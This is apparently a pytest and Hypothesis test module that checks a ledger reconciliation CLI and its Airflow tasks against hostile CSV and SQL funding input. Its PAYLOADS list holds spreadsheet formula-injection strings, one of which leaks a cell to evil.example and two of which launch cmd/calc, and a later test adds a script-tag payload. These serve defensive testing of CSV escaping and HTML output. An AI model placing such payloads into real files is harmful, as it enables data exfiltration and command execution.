"""Hostile funding input through the real entry points: ``ledger
reconcile`` with a CSV file and with a SQL table (click's CliRunner, in
process, against a demo ledger), and the Airflow tasks (``tasks.extract`` then
``tasks.reconcile_snapshot`` and ``tasks.anchor_report``).

Every input ends in exit 0 with its findings, or exit 2 with a message naming
what is wrong and the fix; never a traceback (the edge answers 70 for a bug);
the report directory complete or absent, nothing staged left behind; every
cell of findings.csv inert in a spreadsheet; and the Airflow path gives the
CLI's report byte for byte (it reads at the anchored tree size, and
``produce`` refuses a report that differs from the anchored one).

The corpus is a table: one named input per rule of docs/reconciliation.md
"Hostile input", with what must come out. Hypothesis adds random byte
mutations of a valid file, random cell text, and random typed SQL values.
"""

from __future__ import annotations

import codecs
import csv
import hashlib
import io
import itertools
import json
import sqlite3
import unicodedata
from dataclasses import dataclass
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from ledger.cli import main
from ledger.config import Settings
from ledger.errors import LedgerError
from ledger.finance import business_day, csv_cells, tasks
from ledger.finance.transactions import COLUMNS

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A2,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
BIG = 200_000  # characters: over the 100,000 a row may have, and over the csv module's 131,072 field limit
_ids = itertools.count()


# --- the ledger, and running the two entry points --------------------------------------------


@dataclass
class World:
    dir: Path
    env: dict[str, str]
    as_of: date
    base: list[list[str]]  # the simulated funding system's rows (demo-funding): a valid file's body


@pytest.fixture(scope="module")
def world(tmp_path_factory) -> World:
    d = tmp_path_factory.mktemp("hostile")
    env = {"LEDGER_KEY_PASSPHRASE": "pw", "LEDGER_KEY_DIR": str(d / "private"), "LEDGER_VKEY_DIR": str(d / "keys"),
           "LEDGER_STATE_DIR": str(d / "state"), "LEDGER_DATABASE_URL": f"sqlite:///{d}/ledger.db"}
    as_of = business_day.last_finished(datetime.now(UTC))  # a finished day; the ledger recorded on it
    for args in (["demo", "--entries", "60", "--seed", "5", "--recorded-on", as_of.isoformat()],
                 ["demo-funding", "--out", str(d / "funding"), "--seed", "5", "--as-of", as_of.isoformat()]):
        result = CliRunner().invoke(main, args, env=env, catch_exceptions=False)
        assert result.exit_code == 0, result.output
    with (d / "funding" / "funding.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0] == list(COLUMNS)
    return World(d, env, as_of, rows[1:])


@dataclass
class Outcome:
    code: int
    output: str
    report: dict | None  # report.json, when the run succeeded
    directory: Path | None
    sha256: str | None
    anchor_seq: int | None


def reconcile(w: World, funding: str, *extra: str, table: str | None = None, name: str | None = None) -> Outcome:
    """``ledger reconcile`` as a user runs it, and the invariants every run keeps.
    Each CSV input is its own funding system (``name``): one night, many inputs."""
    out = w.dir / "out" / f"r{next(_ids)}"
    args = ["reconcile", "--funding", funding, "--as-of", w.as_of.isoformat(), "--out", str(out), "--json", *extra]
    if table:
        args += ["--funding-table", table]
    if name:
        args += ["--funding-name", name]
    result = CliRunner().invoke(main, args, env=w.env)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    assert result.exit_code in (0, 2), result.output  # never 1 (a verdict) or 70 (a bug)
    assert "Traceback" not in result.output
    leftovers = [p.name for p in out.iterdir() if p.name.startswith(".")] if out.exists() else []
    assert leftovers == [], leftovers  # nothing staged left behind
    if result.exit_code:
        assert not out.exists() or not any(out.iterdir())  # refused: no report at all
        return Outcome(result.exit_code, result.output, None, None, None, None)
    payload = json.loads(result.stdout)
    directory = Path(payload["directory"])
    assert sorted(p.name for p in directory.iterdir()) == ["findings.csv", "report.json", "summary.html"]
    data = (directory / "report.json").read_bytes()
    assert hashlib.sha256(data).hexdigest() == payload["report_sha256"]  # the anchored bytes are on disk
    report = json.loads(data)
    _assert_findings_csv_inert(directory / "findings.csv", report)
    return Outcome(0, result.output, report, directory, payload["report_sha256"], payload["anchor_seq"])


def _assert_findings_csv_inert(path: Path, report: dict) -> None:
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert all(c[:1] not in csv_cells.TRIGGERS and c.lstrip()[:1] not in csv_cells.TRIGGERS for r in rows for c in r)
    assert [csv_cells.unescape(r[1]) for r in rows[1:]] == [f["txn_id"] or "" for f in report["findings"]]


def airflow(w: World, spec: str, table: str | None, cli: Outcome, name: str | None = None) -> None:
    """The nightly DAG's tasks on the same input: the CLI's report byte for byte,
    nothing more anchored; or, where the CLI refused, a typed error and nothing written."""
    out = w.dir / "dag" / f"d{next(_ids)}"
    s = Settings.from_env(w.env)
    try:
        snap = tasks.extract(s, spec, table, w.as_of, out, name)
        produced = tasks.reconcile_snapshot(s, snap["path"], w.as_of, out)
        anchored = tasks.anchor_report(s, produced["directory"])
    except LedgerError as e:
        assert cli.code == 2, f"the CLI accepted what the Airflow path refused: {e}"
        assert not out.exists() or not any(out.iterdir())
        return
    assert cli.code == 0, "the Airflow path accepted what the CLI refused"
    assert produced["report_sha256"] == cli.sha256 and anchored["seq"] == cli.anchor_seq
    assert [p.name for p in out.iterdir() if p.name.startswith(".")] == []


def csv_run(w: World, data: bytes, name: str = "funding") -> Outcome:
    path = w.dir / "in" / f"{next(_ids)}-{name}.csv"
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(data)
    system = f"in-{next(_ids)}"
    cli = reconcile(w, str(path), name=system)
    airflow(w, str(path), None, cli, system)
    return cli


def text(rows, header=COLUMNS, terminator="\r\n") -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator=terminator).writerows([list(header), *rows])
    return buf.getvalue()


def row(txn_id="H1", kind="payment", reverses="", grant_ref="NMG-NOSUCH", scheme="cn-rid", payee="1",
        amount="100", booked="2024-01-05", programme="p") -> list[str]:
    return [txn_id, kind, reverses, grant_ref, scheme, payee, amount, booked, programme]


def invalid(report: dict) -> dict[str, str]:
    """The invalid_row findings by txn_id ("" for none): their messages. Rows are
    named by content, never by position (decision 0014)."""
    return {f["txn_id"] or "": f["message"] for f in report["findings"] if f["kind"] == "invalid_row"}


def unread(report: dict) -> list[str]:
    """The messages of rows that were not read at all."""
    return [f["message"] for f in report["findings"] if f["kind"] == "invalid_row" and "was not read" in f["message"]]


def txn_ids(report: dict) -> set[str]:
    return {f["txn_id"] for f in report["findings"] if f["txn_id"]}


# --- the CSV corpus ------------------------------------------------------------------------


def test_utf8_with_and_without_bom_and_any_line_ends_read_the_same(world):
    body = world.base[:8]
    plain = csv_run(world, text(body, terminator="\n").encode())
    assert plain.code == 0 and plain.report["input"]["rows"] == 8
    for variant in (codecs.BOM_UTF8 + text(body, terminator="\n").encode(), text(body).encode(),
                    codecs.BOM_UTF8 + text(body).encode(), text(body, terminator="\r").encode()):
        got = csv_run(world, variant)
        assert got.report["findings"] == plain.report["findings"]
        assert got.report["input"] == plain.report["input"]  # same values, same fingerprint


@pytest.mark.parametrize("codec", ["gbk", "gb18030"])
def test_a_gbk_or_gb18030_file_is_refused_naming_the_conversion(world, codec):
    body = world.base[:8] + [row(programme="草原英才𠀀" if codec == "gb18030" else "草原英才")]
    got = csv_run(world, text(body).encode(codec))
    assert got.code == 2
    assert "not UTF-8" in got.output and "line 2" in got.output and "GB18030" in got.output
    assert "iconv -f GB18030 -t UTF-8" in got.output


def test_utf16_and_encoded_surrogates_are_refused(world):
    utf16 = csv_run(world, text(world.base[:3]).encode("utf-16"))
    assert utf16.code == 2 and "UTF-16" in utf16.output and "iconv -f UTF-16 -t UTF-8" in utf16.output
    # A lone surrogate cannot be in UTF-8; its CESU-8 bytes (ED A0 80) are refused like any non-UTF-8.
    cesu = text([row("T\ud800")]).encode("utf-8", "surrogatepass")
    got = csv_run(world, cesu)
    assert got.code == 2 and "byte 0xed" in got.output and "line 2" in got.output


def test_quoted_newlines_stay_inside_their_field_and_cannot_book_rows(world):
    g = world.base[0]
    inner = "\n".join(["a note", ",".join(row("FAKE-1", grant_ref=g[3], payee=g[5])), "end"])
    rows = [*world.base[:3], row("Q1", programme="草原\n英才") + ["x"], row("Q2") + [inner], *world.base[3:5]]
    got = csv_run(world, text(rows, header=[*COLUMNS, "note"]).encode())
    assert got.report["input"]["rows"] == 7
    assert "programme must be one line of text" in invalid(got.report)["Q1"]
    assert "FAKE-1" not in txn_ids(got.report) and "Q2" in txn_ids(got.report)  # Q2: unknown grant, nothing more


def test_blank_rows_are_skipped(world):
    lines = text(world.base[:6]).split("\r\n")
    data = "\r\n\r\n".join(lines[:3]) + "\r\n\n\r\n" + "\r\n".join(lines[3:]) + "\r\n\r\n"
    plain, blanks = csv_run(world, text(world.base[:6]).encode()), csv_run(world, data.encode())
    assert blanks.report["input"] == plain.report["input"] and blanks.report["findings"] == plain.report["findings"]


def test_an_oversized_field_or_line_is_a_finding_with_its_row_and_reading_goes_on(world):
    g = world.base[0]
    fake = ",".join(row("FAKE-2", grant_ref=g[3], payee=g[5]))
    rows = [world.base[0], row("BIG-1") + ["x" * BIG],  # a 200 KB field
            row("BIG-2") + ["\n".join(["y" * 30_000, fake, "y" * 80_000])],  # quoted, over several lines
            row("AFTER-1") + ["read"]]
    tail = ",".join(row("BIG-3")) + "," + "z" * 1_000_000  # the last line: 1 MB, no newline
    got = csv_run(world, (text(rows, header=[*COLUMNS, "note"]) + tail).encode())
    assert got.code == 0 and got.report["input"]["rows"] == 5
    bad = unread(got.report)
    assert len(bad) == 3 and all(m.endswith("record is longer than 100000 characters and was not read") for m in bad)
    assert len({m.split(":")[0] for m in bad}) == 3  # each named by its own content digest
    assert "FAKE-2" not in txn_ids(got.report)  # the quoted text after the overflow is not read as rows
    assert "AFTER-1" in txn_ids(got.report)  # the row after it is (an unknown grant)


def test_an_unterminated_quote_ends_the_last_row(world):
    data = text(world.base[:2]) + 'U1,"payment,,NMG-NOSUCH,cn-rid,1,100,2024-01-05,p\r\n'
    got = csv_run(world, data.encode())
    assert got.report["input"]["rows"] == 3 and "kind must be one of" in invalid(got.report)["U1"]


def test_nul_line_separators_and_bidi_overrides_in_identifiers_are_findings(world):
    rows = [row("N\x00UL"), row("LS\u2028X"), row("PS\u2029X"), row("RLO\u202eX"), row("TAB\tX"),
            row("OK-1") + ["note\x00with\u2028anything"]]
    got = csv_run(world, text(rows, header=[*COLUMNS, "note"]).encode())
    bad = invalid(got.report)
    assert [bad[i].split("(")[-1] for i in ("N\\u0000UL", "LS\\u2028X", "PS\\u2029X", "RLO\\u202eX", "TAB\\u0009X")] == [
        "U+0000 at character 2)", "U+2028 at character 3)", "U+2029 at character 3)", "U+202E at character 4)",
        "U+0009 at character 4)"]
    assert "OK-1" not in bad and got.report["input"]["rows"] == 6  # anything goes in a column the contract ignores
    shown = {f["txn_id"] for f in got.report["findings"] if f["kind"] == "invalid_row"}
    assert shown == {"N\\u0000UL", "LS\\u2028X", "PS\\u2029X", "RLO\\u202eX", "TAB\\u0009X"}  # named, not passed on


def test_amounts_must_be_plain_positive_integers(world):
    amounts = ["9007199254740993", "1e5", "-100", "12.50", "0", "0x10", "1_000", "+5", "10000000000001"]
    rows = [row(f"A{i}", amount=a) for i, a in enumerate(amounts)] + [row("A-OK", amount=" 100 ")]
    got = csv_run(world, text(rows).encode())
    bad = invalid(got.report)
    assert sorted(bad) == sorted(f"A{i}" for i in range(len(amounts)))
    assert all("amount_fen must be a positive integer number of fen" in m for m in bad.values())


def test_sums_beyond_2_to_the_53_are_reported_at_the_bound_with_the_exact_figure(world):
    g = world.base[0]
    rows = [row(f"M{i}", grant_ref=g[3], payee=g[5], amount=str(10**13 - i), booked=g[7]) for i in range(1000)]
    got = csv_run(world, text(rows).encode())
    [over] = [f for f in got.report["findings"] if f["kind"] == "overpaid"]
    paid = sum(10**13 - i for i in range(1000))
    assert paid > 2**53 and over["amounts"]["paid_fen"] == 2**53 - 1 and f"paid {paid} fen" in over["message"]


def test_non_nfc_identifiers_are_compared_as_written_and_say_so(world):
    g = world.base[0]
    nfd = unicodedata.normalize("NFD", g[3] + "-É")
    got = csv_run(world, text([row("NFD-1", grant_ref=nfd, payee=g[5]), row("Cafe\u0301")]).encode())
    [unknown] = [f for f in got.report["findings"] if f["txn_id"] == "NFD-1"]
    assert unknown["kind"] == "unknown_grant" and "not in Unicode NFC form" in unknown["message"]
    assert "Cafe\u0301" in txn_ids(got.report)  # a txn_id is opaque: kept as written


def test_header_rules(world):
    body = world.base[:3]
    missing = csv_run(world, text([r[:6] + r[7:] for r in body], header=[c for c in COLUMNS if c != "amount_fen"]).encode())
    assert missing.code == 2 and "lacks columns amount_fen" in missing.output
    extra = csv_run(world, text([[*r, "x", "y"] for r in body], header=[*COLUMNS, "note", "备注"]).encode())
    plain = csv_run(world, text(body).encode())
    assert extra.report["findings"] == plain.report["findings"]
    twice = csv_run(world, text([[*r, "1"] for r in body], header=[*COLUMNS, "amount_fen"]).encode())
    assert twice.code == 2 and "amount_fen in columns 7, 10" in twice.output
    shuffled = list(reversed(COLUMNS))
    reordered = csv_run(world, text([list(reversed(r)) for r in body], header=shuffled).encode())
    assert reordered.report["input"] == plain.report["input"]


@pytest.mark.parametrize(("data", "says"), [
    (b"", "is empty"), (codecs.BOM_UTF8, "is empty"), (b"\r\n" + ",".join(COLUMNS).encode(), "is blank"),
    ((",".join(COLUMNS) + ",").encode() + b"h" * 150_000, "header row"),
])
def test_no_usable_header_is_refused(world, data, says):
    got = csv_run(world, data)
    assert got.code == 2 and says in got.output


def test_a_header_alone_is_an_empty_night(world):
    got = csv_run(world, text([]).encode())
    assert got.code == 0 and got.report["input"] == {"rows": 0, "fingerprint": "0:" + "0" * 64}


def test_formula_and_markup_txn_ids_are_inert_in_every_report_file(world):
    rows = [row(p) for p in [*PAYLOADS, "<script>alert(1)</script>", "-1", "\u3000=1"]]
    got = csv_run(world, text(rows).encode())
    assert txn_ids(got.report) >= set(PAYLOADS)  # reported as written (report.json is data, not a sheet)
    html = (got.directory / "summary.html").read_text(encoding="utf-8")
    assert "<script>" not in html and "&lt;script&gt;" in html


def test_a_directory_or_a_missing_file_is_refused(world):
    (world.dir / "a-directory").mkdir(exist_ok=True)
    folder = reconcile(world, str(world.dir / "a-directory"))
    assert folder.code == 2 and "not a regular file" in folder.output and "a directory" in folder.output
    gone = reconcile(world, str(world.dir / "no-such.csv"))
    assert gone.code == 2 and "no such file" in gone.output
    airflow(world, str(world.dir / "no-such.csv"), None, gone)


def test_impossible_dates_and_an_unwritable_out_are_refused(world):
    path = world.dir / "in" / "plain-for-options.csv"
    path.parent.mkdir(exist_ok=True)
    path.write_text(text(world.base[:2]), encoding="utf-8")
    assert "unpaid_days" in reconcile(world, str(path), "--unpaid-days", "1000000").output
    early = CliRunner().invoke(main, ["reconcile", "--funding", str(path), "--as-of", "0001-01-02", "--out",
                                      str(world.dir / "early")], env=world.env)
    assert early.exit_code == 2 and "as_of" in early.output and not (world.dir / "early").exists()
    blocker = world.dir / "a-file"
    blocker.write_text("not a directory")
    stuck = CliRunner().invoke(main, ["reconcile", "--funding", str(path), "--as-of", world.as_of.isoformat(),
                                      "--out", str(blocker / "reports")], env=world.env)
    assert stuck.exit_code == 2 and "cannot write the reports" in stuck.output


def test_pass_one_in_a_spawned_process_fails_and_finds_as_in_line(world, monkeypatch):
    """A large file's pass 1 runs in another process (ledger.finance.job._start_scan):
    a refusal there is raised again here with its message, and an oversized row
    gives the in-line report. (The size threshold is lowered here.)"""
    from ledger.errors import ValidationError
    from ledger.finance import job
    from ledger.finance.sources import CsvSource
    from ledger.store.engine import make_engine

    s = Settings.from_env(world.env)
    engine, vault = make_engine(s.database_url), s.vault()
    now = datetime.now(UTC)
    started = []
    real_start = job._start_scan
    monkeypatch.setattr(job, "_start_scan", lambda *a: started.append(real_start(*a)) or started[-1])
    gbk = world.dir / "in" / "late-gbk.csv"
    gbk.parent.mkdir(exist_ok=True)
    many = [row(f"OK-{i}") for i in range(2000)]  # past the first chunks the header read decodes
    gbk.write_bytes(text(many).encode() + text([row(programme="草原英才")]).split("\r\n", 1)[1].encode("gbk"))
    big = world.dir / "in" / "spawned-big.csv"
    big.write_text(text([*world.base[:3], row("BIG") + ["x" * BIG]], header=[*COLUMNS, "note"]), encoding="utf-8")
    monkeypatch.setattr(job, "PARALLEL_SCAN_BYTES", 0)
    with pytest.raises(ValidationError, match=r"late-gbk.csv is not UTF-8: byte 0x[0-9a-f]{2} at offset \d+ \(line 2002\)"):
        job.produce(engine, vault, CsvSource(gbk), world.as_of, world.dir / "spawned-gbk", now=now)
    apart = job.produce(engine, vault, CsvSource(big, "spawned"), world.as_of, world.dir / "spawned", now=now)
    monkeypatch.setattr(job, "PARALLEL_SCAN_BYTES", 1 << 40)
    inline = job.produce(engine, vault, CsvSource(big, "spawned"), world.as_of, world.dir / "inline", now=now)
    assert started[0] is not None and started[1] is not None and started[2] is None  # really in another process
    assert isinstance(started[0].exception(), ValidationError)  # raised there, raised again here in line
    assert apart.report_sha256 == inline.report_sha256 and len(unread(apart.report)) == 1
    assert not (world.dir / "spawned-gbk").exists()
    engine.dispose()


def test_a_refused_rerun_on_the_command_line_keeps_the_anchored_reports(world):
    """Decision 0014 (anchored artefacts are immutable), through ``ledger reconcile``: exit 2, the anchored
    directory byte for byte as it was, the refused result beside it."""
    path = world.dir / "in" / "rerun.csv"
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(text(world.base[:6]).encode())
    out = world.dir / "rerun-out"
    args = ["reconcile", "--funding", str(path), "--funding-name", "rerun", "--as-of", world.as_of.isoformat(),
            "--out", str(out), "--json"]
    first = CliRunner().invoke(main, args, env=world.env)
    assert first.exit_code == 0, first.output
    folder = Path(json.loads(first.stdout)["directory"])
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    changed = [*world.base[:5], [*world.base[5][:6], str(int(world.base[5][6]) + 1), *world.base[5][7:]]]
    path.write_bytes(text(changed).encode())
    refused = CliRunner().invoke(main, args, env=world.env)
    assert refused.exit_code == 2 and "AnchorMismatch" in refused.output and ".refused-" in refused.output
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before
    [beside] = out.glob(f"reconciliation-{world.as_of}.refused-*")
    assert sorted(p.name for p in beside.iterdir()) == ["findings.csv", "report.json", "summary.html"]
    assert not [p for p in out.iterdir() if p.name.startswith(".")]


def test_an_as_of_that_is_not_finished_is_refused_on_the_command_line(world):
    """Decision 0014: today (Asia/Shanghai) and later are refused, reading nothing."""
    today = business_day.day_of(datetime.now(UTC))
    for day in (today, date(9999, 12, 31)):
        r = CliRunner().invoke(main, ["reconcile", "--funding", str(world.dir / "no-such.csv"), "--as-of",
                                      day.isoformat(), "--out", str(world.dir / "unfinished")], env=world.env)
        assert r.exit_code == 2 and "is not finished" in r.output and "no such file" not in r.output
    assert not (world.dir / "unfinished").exists()


def test_score_findings_refuses_what_is_not_a_report_and_fails_a_mismatch_in_json(world):
    d = world.dir / "score"
    d.mkdir(exist_ok=True)
    files = {"junk": b"\xff\xfe not json", "empty": b"{}", "list": b"[1]", "bad-item": b'{"findings": [1]}',
             "truth": b'{"findings": []}', "report": b'{"findings": [{"kind": "overpaid", "txn_id": "=1", "grant_ref": null}]}'}
    for name, data in files.items():
        (d / f"{name}.json").write_bytes(data)
    for name, says in [("junk", "not a JSON file"), ("empty", "no \"findings\" list"), ("list", "no \"findings\" list"),
                       ("bad-item", "finding 0 is not an object")]:
        r = CliRunner().invoke(main, ["score-findings", str(d / f"{name}.json"), str(d / "truth.json")], env=world.env)
        assert r.exit_code == 2 and says in r.output, r.output
    r = CliRunner().invoke(main, ["score-findings", str(d / "report.json"), str(d / "truth.json"), "--json"],
                           env=world.env)
    error = json.loads(r.stdout)
    assert r.exit_code == 1 and error["ok"] is False and error["exit_code"] == 1 and error["precision"] == 0


# --- the SQL corpus (a SQLite file stands in for the funding system's database) --------------


def sql_run(w: World, rows: list[tuple], types: str = "TEXT", raw: list[str] = ()) -> Outcome:
    """A table of ``rows`` (declared column type ``types`` for amount_fen and booked_on,
    TEXT elsewhere, plus a note column), and ``raw`` SQL inserts; reconciled both ways."""
    table, url = f"t{next(_ids)}", f"sqlite:///{w.dir}/funding-system.db"
    with sqlite3.connect(w.dir / "funding-system.db") as db:
        cols = ", ".join(f"{c} {types if c in ('amount_fen', 'booked_on') else 'TEXT'}" for c in COLUMNS)
        db.execute(f"CREATE TABLE {table} ({cols}, note TEXT)")
        db.executemany(f"INSERT INTO {table} VALUES ({', '.join('?' * (len(COLUMNS) + 1))})",
                       [(*r, None)[:len(COLUMNS) + 1] for r in rows])
        for statement in raw:
            db.execute(statement.format(table=table))
    cli = reconcile(w, url, table=table)
    airflow(w, url, table, cli)
    return cli


def test_sql_typed_values_read_as_the_csv_with_the_same_text(world):
    rows = [tuple(int(v) if c == "amount_fen" else v for c, v in zip(COLUMNS, r, strict=True)) for r in world.base[:8]]
    by_sql = sql_run(world, rows, types="INTEGER")
    by_csv = csv_run(world, text(world.base[:8]).encode())
    assert by_sql.report["input"] == by_csv.report["input"] and by_sql.report["findings"] == by_csv.report["findings"]


def test_sql_amounts_and_dates_of_any_type_are_findings_not_crashes(world):
    rows = [row("S1", amount=2**62), row("S2", amount=-5), row("S3", amount=100.5), row("S4", amount="12.50"),
            row("S5", booked="2024-01-05 10:00:00"), row("S6", booked="garbage"), row(None), row("S8", amount=None)]
    got = sql_run(world, rows, types="DATE")  # a DATE column: SQLAlchemy would parse it, and raise on garbage
    bad = invalid(got.report)
    assert sorted(bad) == ["", "S1", "S2", "S3", "S4", "S5", "S6", "S8"]
    assert "txn_id is required" in bad[""] and "booked_on must be a date" in bad["S6"]


def test_sql_text_that_is_not_unicode_or_too_long_is_a_finding(world):
    got = sql_run(world, [row("S-NUL\x00"), row("S-\u2028LS"), row("S-LONG", programme="p" * BIG)],
                  raw=["INSERT INTO {table} (txn_id, kind, amount_fen, booked_on, grant_ref) VALUES "
                       "(CAST(X'532DEDA080' AS TEXT), 'payment', '1', '2024-01-05', 'g')",  # CESU-8 for U+D800
                       "INSERT INTO {table} (txn_id, kind, amount_fen, booked_on, grant_ref) VALUES "
                       "('S-BYTE', 'payment', '1', '2024-01-05', CAST(X'FF' AS TEXT))"])
    messages = sorted(invalid(got.report).values())
    assert any("record is longer than 100000 characters" in m for m in messages)
    assert any("txn_id is not valid Unicode text (byte 0xED, not UTF-8 at character 3)" in m for m in messages)
    assert any("grant_ref is not valid Unicode text (byte 0xFF, not UTF-8" in m for m in messages)
    assert any("U+0000" in m for m in messages) and any("U+2028" in m for m in messages)


def test_postgresql_typed_columns_and_values_python_cannot_hold(world):
    """A PostgreSQL view with typed columns: 'infinity' dates and NaN amounts
    (which psycopg could not or would not turn into Python values) are findings."""
    from tests.conftest import PG_OWNER

    if not PG_OWNER:
        pytest.skip("PostgreSQL not configured: run `make test` (sets LEDGER_TEST_PG_*_URL)")
    from sqlalchemy import create_engine
    from sqlalchemy import text as sql

    schema = f"funding_{next(_ids)}_{world.as_of:%Y%m%d}"
    engine = create_engine(PG_OWNER)
    cols = ", ".join(f"{c} {'numeric' if c == 'amount_fen' else 'date' if c == 'booked_on' else 'text'}"
                     for c in COLUMNS)
    try:
        with engine.begin() as conn:
            conn.execute(sql(f"CREATE SCHEMA {schema}"))
            conn.execute(sql(f"CREATE TABLE {schema}.payments ({cols})"))
            conn.execute(sql(f"INSERT INTO {schema}.payments VALUES "
                             "('P1','payment','','NMG-NOSUCH','cn-rid','1', 100, '2024-01-05','p'),"
                             "('P2','payment','','NMG-NOSUCH','cn-rid','1', 'NaN', '2024-01-05','p'),"
                             "('P3','payment','','NMG-NOSUCH','cn-rid','1', 1e30, 'infinity','p'),"
                             "('P4','payment','','NMG-NOSUCH','cn-rid','1', 100.00, '2024-01-05','p')"))
        got = reconcile(world, PG_OWNER, table=f"{schema}.payments")
        airflow(world, PG_OWNER, f"{schema}.payments", got)
        assert got.code == 0 and got.report["input"]["rows"] == 4
        # Airflow's connection style (postgres://) is the same source: the same anchor.
        airflow_style = PG_OWNER.replace("postgresql+psycopg://", "postgres://")
        same = reconcile(world, airflow_style, table=f"{schema}.payments")
        assert same.code == 0 and same.anchor_seq == got.anchor_seq and same.sha256 == got.sha256
        assert sorted(invalid(got.report)) == ["P2", "P3", "P4"] and "P1" in txn_ids(got.report)  # P1: an unknown grant
    finally:
        with engine.begin() as conn:
            conn.execute(sql(f"DROP SCHEMA IF EXISTS {schema} CASCADE"))
        engine.dispose()


def test_sql_sources_that_cannot_be_read_are_refused(world):
    url = f"sqlite:///{world.dir}/funding-system.db"
    with sqlite3.connect(world.dir / "funding-system.db") as db:
        db.execute("CREATE TABLE IF NOT EXISTS lacking (txn_id TEXT, kind TEXT)")
    for spec, table, says in [(url, "no_such_table", "no table or view no_such_table"),
                              (url, "lacking", "lacks columns reverses"),
                              ("nosuchdriver://host/db", None, "cannot use nosuchdriver://host/db"),
                              ("postgresql+psycopg://u:secret@127.0.0.1:1/db", None, "u:***@127.0.0.1:1/db")]:
        got = reconcile(world, spec, table=table)
        assert got.code == 2 and says in got.output and "secret" not in got.output
        airflow(world, spec, table, got)


# --- generated inputs ------------------------------------------------------------------------

FUZZ = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                        HealthCheck.too_slow])
# A byte anywhere (mostly breaking UTF-8 or the header: refusals), or one that
# matters to CSV put in the body (mostly rows that still parse: findings).
mutation = st.one_of(
    st.tuples(st.sampled_from(["flip", "insert", "delete"]), st.integers(0, 10**6), st.integers(0, 255)),
    st.tuples(st.sampled_from(["set", "insert"]), st.integers(0, 10**6), st.sampled_from(b',"\r\n\x00=+-@ 9x')))


@FUZZ
@given(st.lists(mutation, min_size=1, max_size=4), st.booleans())
def test_byte_mutations_of_a_valid_file_never_crash(world, mutations, body_only):
    header = len(text([]).encode())
    data = bytearray(text(world.base[:6] + [row("PLAIN-1", programme="草原英才")]).encode())
    for op, at, byte in mutations:
        at = header + at % (len(data) - header + 1) if body_only else at % (len(data) + 1)
        if op == "insert":
            data[at:at] = bytes([byte])
        elif op == "delete" and at < len(data):
            del data[at]
        elif op == "set" and at < len(data):
            data[at] = byte
        elif at < len(data):
            data[at] ^= byte or 1
    got = csv_run(world, bytes(data))
    event(f"exit {got.code}")
    if got.code == 2:
        assert "funding" in got.output  # a typed refusal, naming the input


cell = st.one_of(st.text(), st.sampled_from([*PAYLOADS, "\x00", "\u2028", "\r\n", '"', "", "-1", "9" * 30]))


@FUZZ
@given(st.lists(st.lists(cell, min_size=1, max_size=11), max_size=6))
def test_random_cells_are_read_as_rows_and_findings(world, rows):
    got = csv_run(world, text(rows).encode())
    assert got.code == 0 and got.report["input"]["rows"] == len(rows)


sql_value = st.one_of(st.none(), st.integers(-(2**63), 2**63 - 1), st.floats(), st.text(max_size=20),
                      st.sampled_from(["2024-01-05", "payment", "reversal", "NMG-NOSUCH", "100", "\x00", "\u2029"]))


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                 HealthCheck.too_slow])
@given(st.lists(st.tuples(*[sql_value] * len(COLUMNS)), max_size=5), st.sampled_from(["TEXT", "INTEGER", "REAL", "DATE"]))
def test_random_sql_values_are_read_as_rows_and_findings(world, rows, types):
    got = sql_run(world, rows, types=types)
    assert got.code == 0 and got.report["input"]["rows"] == len(rows)
